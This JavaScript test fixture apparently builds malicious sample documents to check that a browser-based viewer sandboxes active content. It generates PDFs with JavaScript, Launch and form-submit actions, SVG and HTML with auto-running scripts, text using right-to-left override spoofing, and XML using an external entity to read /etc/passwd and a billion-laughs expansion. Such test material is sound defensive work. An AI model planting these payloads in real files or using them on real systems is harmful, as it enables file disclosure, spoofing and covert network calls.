// Documents made up for the browser tests, harmless and not.

// pdf writes a file of these objects, the first one the catalog.
export function pdf(objects) {
  let out = '%PDF-1.7\n';
  const at = objects.map((o, i) => {
    const here = out.length;
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
    return here;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.map((a) => `${String(a).padStart(10, '0')} 00000 n \n`).join('')}`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

// textPDF is a page with a line on it; catalog and page take more entries, more are further objects from 6 on.
export function textPDF(line, { catalog = '', page = '', more = [] } = {}) {
  const content = `BT /F1 24 Tf 60 700 Td (${line}) Tj ET`;
  return pdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...more,
  ]);
}

// hostileDocuments try to reach a server, the page above, other windows and what the browser keeps. window.owned tells that a script ran.
// active: what the consent page has to say about them; shows: words that are seen, or false where nothing can be shown.
export function hostileDocuments(at) {
  const run = `window.owned=1;try{parent.owned=1}catch(e){};fetch('${at}/script');top.location='${at}/top';window.open('${at}/popup')`;
  const escaped = run.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
  const action = (js) => `<< /S /JavaScript /JS (${js.replace(/[\\()]/g, '\\$&')}) >>`;
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform><field name="x"><event activity="initialize"><script contentType="application/x-javascript">${escaped}</script></event></field></subform></template></xdp:xdp>`;
  return {
    'note.txt': { mediaType: 'text/plain', body: Buffer.from(`harmless <script>${run}</script>`), shows: 'harmless <script>' },
    'turned.txt': { mediaType: 'text/plain', body: Buffer.from('I owe you \u202e0001\u202c EUR\u200b'), shows: 'U+202E' },
    'page.html': {
      mediaType: 'text/html', active: [/script/i], shows: '<h1>Offer</h1>',
      body: Buffer.from(`<!doctype html><meta http-equiv="refresh" content="0;url=${at}/refresh"><base href="${at}/"><link rel="stylesheet" href="${at}/css"><h1>Offer</h1>
        <script>${run}</script><img src="${at}/img" onerror="${escaped}"><iframe src="${at}/frame"></iframe><object data="${at}/object"></object><form action="${at}/form" id="f"></form><script>f.submit()</script>`),
    },
    'drawing.svg': {
      mediaType: 'image/svg+xml', active: [/script/i],
      body: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="${escaped}">
        <script>${run}</script><style>@import url(${at}/css);</style><image xlink:href="${at}/img" width="10" height="10"/><use href="${at}/use#x"/>
        <foreignObject width="100" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${at}/frame"></iframe></foreignObject>
        <a href="${at}/link" target="_top"><rect width="200" height="100" fill="url(${at}/paint#p)"/></a><animate onbegin="${escaped}" attributeName="x" dur="1s"/></svg>`),
    },
    'record.xml': {
      mediaType: 'application/xml', shows: '<!ENTITY',
      body: Buffer.from(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${at}/xsl"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">
        <!ENTITY x SYSTEM "${at}/entity"><!ENTITY f SYSTEM "file:///etc/passwd">]><r xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${escaped}</h:script>&x;&f;&c;</r>`),
    },
    'script.pdf': {
      mediaType: 'application/pdf', active: [/script/i],
      body: textPDF('Script', { catalog: `/OpenAction ${action(`app.launchURL("${at}/launch"); ${run}`)} /AA << /WC ${action(run)} >> /Names << /JavaScript << /Names [(x) ${action(run)}] >> >>`, page: `/AA << /O ${action(run)} >>` }),
    },
    'launch.pdf': {
      mediaType: 'application/pdf', active: [/program/i],
      body: textPDF('Launch', { catalog: '/OpenAction << /S /Launch /F (/usr/bin/xcalc) >>', page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${at}/uri) >> >> << /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /GoToR /F (${at}/gotor) >> >>]` }),
    },
    'form.pdf': {
      mediaType: 'application/pdf', active: [/form/i],
      body: textPDF('Form', {
        catalog: `/AcroForm << /Fields [7 0 R] /XFA 6 0 R >> /NeedsRendering true /OpenAction << /S /SubmitForm /F << /FS /URL /F (${at}/submit) >> >>`, page: '/Annots [7 0 R]',
        more: [`<< /Length ${xfa.length} >>\nstream\n${xfa}\nendstream`, `<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /V (<img src=x onerror=${escaped}>) /Rect [60 600 300 640] /AA << /F ${action(run)} >> >>`],
      }),
    },
    'broken.pdf': { mediaType: 'application/pdf', body: Buffer.from(`%PDF-1.7\n${'\x00\xff(<<[ endobj'.repeat(500)}`), shows: false },
    'loop.pdf': { mediaType: 'application/pdf', body: pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']), shows: false },
  };
}
